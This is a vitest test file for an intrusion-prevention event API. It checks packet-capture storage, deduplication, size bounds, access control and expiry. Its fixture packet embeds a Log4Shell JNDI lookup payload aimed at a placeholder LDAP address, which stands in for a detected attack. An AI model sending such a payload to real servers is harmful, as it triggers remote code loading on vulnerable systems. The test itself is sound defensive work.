import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { zstdCompressSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSpoolDirectory } from '../../../../agent/src/spool/directory.ts';
import { openSpool } from '../../../../agent/src/spool/spool.ts';
import { sendEvents } from '../../../../functions/agent-link/send-events.ts';
import { hostEventHandlers } from '../../../../functions/events/host-events.ts';
import { packetDataHandlers } from '../../../../functions/events/packet-data.ts';
import { everywhere } from '../../../../shared/domain/access/role.ts';
import { starterCatalogue } from '../../../../shared/domain/ips/catalogue/index.ts';
import { api } from '../../../../shared/http/api.ts';
import type { BatchReply } from '../../../../shared/schema/agent/events.ts';
import { erasedPartitions } from '../../../../shared/table/entities/tenant/tenant-partitions.ts';
import { keys } from '../../../../shared/table/keys.ts';
import { createIdentity } from '../../../support/agent-identity.ts';
import { call, quietLogger } from '../../../support/call.ts';
import { batchIDAt, firewallEvent, ipsEvent } from '../../../support/host-events.ts';
import { startTable, type TestTable } from '../../../support/table.ts';
import { seedComputer, seedKey } from '../../../support/tenant.ts';

const T = '11111111-2222-4333-8444-555555555555';
const OTHER = '22222222-2222-4333-8444-555555555555';
const path = '/api/events/intrusionprevention';
const identity = createIdentity();
const agent = identity.as(T, 12);
const attack = Buffer.from('GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\n\r\n');
const data = attack.toString('base64');

let table: TestTable;
let handler: ReturnType<typeof api>;
let secret: string;
let clock = Date.now();
const directory = mkdtempSync(join(tmpdir(), 'packets-'));
beforeAll(async () => {
  table = await startTable();
  await seedComputer(table.store, T, 12, identity);
  secret = await seedKey(table.store, T);
  const deps = {
    store: table.storeAt(() => clock),
    logger: quietLogger(),
    now: () => clock,
    catalogue: starterCatalogue,
  };
  handler = api(deps, [sendEvents(deps), ...hostEventHandlers(deps), ...packetDataHandlers(deps)]);
});
afterAll(async () => {
  rmSync(directory, { recursive: true });
  await table.stop();
});

const post = (id: string, body: Uint8Array) =>
  agent.send<BatchReply>(handler, { method: 'POST', path: '/agent/v1/events', query: { id }, body });
const get = <T>(at: string, key = secret) =>
  call<T>(handler, { path: at, headers: { 'api-secret-key': key } });
const packetOf = (id: string, key?: string) => get<Record<string, unknown>>(`${path}/${id}/data`, key);

/** Apart from the spool's own numbers. */
let n = 100;
const send = async (events: readonly unknown[], packets: readonly unknown[]) => {
  const id = batchIDAt(clock, ++n);
  const body = zstdCompressSync(JSON.stringify({ id, events, packets }));
  return { id, body, reply: await post(id, body) };
};

it('leads from the spool of a host to whoever reads the event', async () => {
  const files = await openSpoolDirectory(directory);
  const spool = await openSpool(files, {
    now: () => clock,
    lossNotice: (_, __, at) => firewallEvent({ at }),
  });
  const seen = ipsEvent({ at: clock - 5000, packetSize: 90 });
  await spool.append([firewallEvent({ at: clock - 6000 }), { ...seen, packet: data }]);
  // What repeats it is folded into it; the next packet that is kept begins an event of its own.
  await spool.append([{ ...seen, at: clock - 4000 }]);
  await spool.append([{ ...seen, at: clock - 3000, packet: 'AAAA' }]);
  const batch = await spool.seal();
  const bytes = await spool.read(batch?.id ?? '');
  expect((await post(batch?.id ?? '', bytes ?? new Uint8Array())).body).toMatchObject({
    accepted: 3,
    refused: [],
  });

  const { body } = await get<{ intrusionPreventionEvents: unknown[] }>(path);
  expect(body.intrusionPreventionEvents).toMatchObject([
    { eventID: `12-${batch?.id}-2`, repeatCount: 1, packetData: true },
    { eventID: `12-${batch?.id}-1`, repeatCount: 2, packetData: true },
  ]);
  expect(JSON.stringify(body)).not.toContain(data);
  expect(await packetOf(`12-${batch?.id}-1`)).toMatchObject({
    status: 200,
    body: {
      eventID: `12-${batch?.id}-1`,
      packetSize: 90,
      truncated: true,
      data,
      hex: attack.toString('hex'),
      text: 'GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1....',
    },
  });
  expect((await packetOf(`12-${batch?.id}-2`)).body).toMatchObject({ data: 'AAAA', truncated: true });
});

it('follows its event when another event of the batch is refused', async () => {
  const { id, reply } = await send(
    [{ kind: 'nonsense' }, ipsEvent({ at: clock }), firewallEvent({ at: clock })],
    [{ index: 1, data }],
  );
  expect(reply.body).toMatchObject({ accepted: 2, refused: [{ index: 0 }] });
  expect((await packetOf(`12-${id}-0`)).body).toMatchObject({ data, packetSize: 512, truncated: true });
});

it('is kept once, also when the host sends the batch again', async () => {
  const { id, body } = await send([ipsEvent({ at: clock })], [{ index: 0, data }]);
  expect((await post(id, body)).body).toMatchObject({ duplicate: true });
  const changed = JSON.stringify({
    id,
    events: [ipsEvent({ at: clock })],
    packets: [{ index: 0, data: 'AAAA' }],
  });
  await post(id, zstdCompressSync(changed));
  expect((await packetOf(`12-${id}-0`)).body).toMatchObject({ data });
});

it.each([
  ['of no event', { index: 9, data }],
  ['of an event of the firewall', { index: 1, data }],
  ['a second one of an event', { index: 0, data: 'AAAA' }],
  ['longer than is kept', { index: 2, data: Buffer.alloc(2049).toString('base64') }],
  ['that is not base64', { index: 2, data: '<script>' }],
  ['that is empty', { index: 2, data: '' }],
  ['without a place', { data }],
  ['that is no packet', 'packet'],
])('%s costs neither the events nor the other packets', async (_, bad) => {
  const events = [ipsEvent({ at: clock }), firewallEvent({ at: clock }), ipsEvent({ at: clock, sid: 2 })];
  const { id, reply } = await send(events, [{ index: 0, data }, bad]);
  expect(reply).toMatchObject({
    status: 200,
    body: { accepted: 3, refused: [], refusedPackets: [{ index: 1, message: expect.stringMatching(/./) }] },
  });
  expect((await packetOf(`12-${id}-0`)).body).toMatchObject({ data });
  expect((await packetOf(`12-${id}-2`)).status).toBe(404);
});

it('takes no more than a bound of bytes from a batch', async () => {
  const events = Array.from({ length: 200 }, (_, sid) => ipsEvent({ at: clock, sid }));
  const long = Buffer.alloc(2048).toString('base64');
  const { reply } = await send(
    events,
    events.map((_, index) => ({ index, data: long })),
  );
  expect(reply.body).toMatchObject({ accepted: 200 });
  expect(reply.body.refusedPackets).toHaveLength(200 - Math.floor((256 * 1024) / long.length));
});

it('is for those who may see the event, and as long as they may', async () => {
  const { id } = await send([ipsEvent({ at: clock })], [{ index: 0, data }]);
  const eventID = `12-${id}-0`;
  const { store } = table;
  const role = (ID: number, more: object) =>
    store.put({ ...keys.role(T, ID), kind: 'role', ID, name: `${ID}`, ...more } as never);
  await role(11, { rights: ['serviceRights.orderRights.canViewOrders'] });
  await role(12, {
    rights: ['serviceRights.eventRights.canViewEvents'],
    reach: { ...everywhere, allComputers: false, computerIDs: [99] },
  });
  const blind = await seedKey(table.store, T, { ID: 2, roleID: 11 });
  const elsewhere = await seedKey(table.store, T, { ID: 3, roleID: 12 });
  const other = await seedKey(table.store, OTHER);
  const answers = [
    await packetOf(eventID),
    await packetOf(eventID, blind),
    await packetOf(eventID, elsewhere),
    await packetOf(eventID, other),
    await packetOf('12-nonsense'),
  ];
  expect(answers.map(({ status }) => status)).toEqual([200, 403, 404, 404, 404]);

  const before = clock;
  clock += 28 * 86_400_000 + 1000;
  expect((await packetOf(eventID)).status).toBe(404);
  clock = before;
  expect(erasedPartitions(T)).toContain(keys.packets(T, 12, id).pk);
});
